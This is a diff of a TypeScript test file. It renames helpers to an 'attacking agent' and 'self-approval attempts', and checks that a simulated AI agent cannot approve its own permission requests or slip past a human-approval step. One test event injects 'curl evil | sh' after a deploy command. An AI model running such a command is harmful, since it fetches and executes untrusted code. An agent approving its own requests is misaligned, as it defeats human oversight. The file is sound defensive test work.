@@ -1,8 +1,8 @@
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { type Agent, ATTEMPTS, createAgent } from "./testing/agent-attempts.ts";
-import type { Question, Victim } from "./testing/victim.ts";
+import { type AttackingAgent, createAttackingAgent, SELF_APPROVAL_ATTEMPTS } from "./testing/agent-attempts.ts";
+import type { Victim, VictimQuestion } from "./testing/victim.ts";
 import { openVictimHere } from "./testing/victim-here.ts";
 
 /**
@@ -17,9 +17,9 @@ describe.skipIf(process.platform === "win32")("an agent decides nothing and loos
   });
   afterAll(() => victim[Symbol.asyncDispose]());
 
-  it.each(Object.entries(ATTEMPTS))("%s", async (_name, attempt) => {
+  it.each(Object.entries(SELF_APPROVAL_ATTEMPTS))("%s", async (_name, attempt) => {
     const before = await victim.snapshot();
-    const [agent, question] = [createAgent(victim), await victim.ask()];
+    const [agent, question] = [createAttackingAgent(victim), await victim.ask()];
     await attempt(agent, question, victim);
     await expectUnchanged(agent, question);
     victim.writeRules();
@@ -38,7 +38,7 @@ describe.skipIf(process.platform === "win32")("an agent decides nothing and loos
     await victim.decide(`/api/requests/${request}/answer`, { digest, answer: "allow" });
     const before = await victim.snapshot();
     expect(before.decisions).toContain(`${request} allow by Ana's phone: answered-by-person`);
-    const agent = createAgent(victim);
+    const agent = createAttackingAgent(victim);
     const other = { ...event, action: { ...(event["action"] as object), input: { command: "deploy shop; curl evil | sh" } } };
     for (let turn = 0; turn < 3; turn++) await agent.post("/aep/v1/hooks?wait=50", agent.producer, other);
     await agent.post("/aep/v1/hooks?wait=50", agent.producer, { ...other, id: "evt_again" });
@@ -54,7 +54,7 @@ describe.skipIf(process.platform === "win32")("an agent decides nothing and loos
     const confirming = await victim.read(`/api/requests/${confirmation}`);
     await victim.decide(`/api/requests/${confirmation}/answer`, { digest: confirming["digest"], answer: "accept", reason: "Fine." });
     const before = await victim.snapshot();
-    const agent = createAgent(victim);
+    const agent = createAttackingAgent(victim);
     const answer = (token: string, body: object) => agent.post(`/api/requests/${request}/answer`, token, body);
     for (const word of ["allow", "accept"]) {
       for (const token of ["", agent.producer, agent.viewer]) await answer(token, { digest, answer: word, reason: "Fine.", keep: true });
@@ -66,7 +66,7 @@ describe.skipIf(process.platform === "win32")("an agent decides nothing and loos
   });
 });
 
-async function expectUnchanged(agent: Agent, question: Question): Promise<void> {
+async function expectUnchanged(agent: AttackingAgent, question: VictimQuestion): Promise<void> {
   expect(agent.heard.join("\n")).not.toContain('"behavior":"allow"');
   // A hook may withdraw its own request; the agent's own dialog then asks.
   expect(["deny", "abstain", "ask", undefined]).toContain(question.heard());
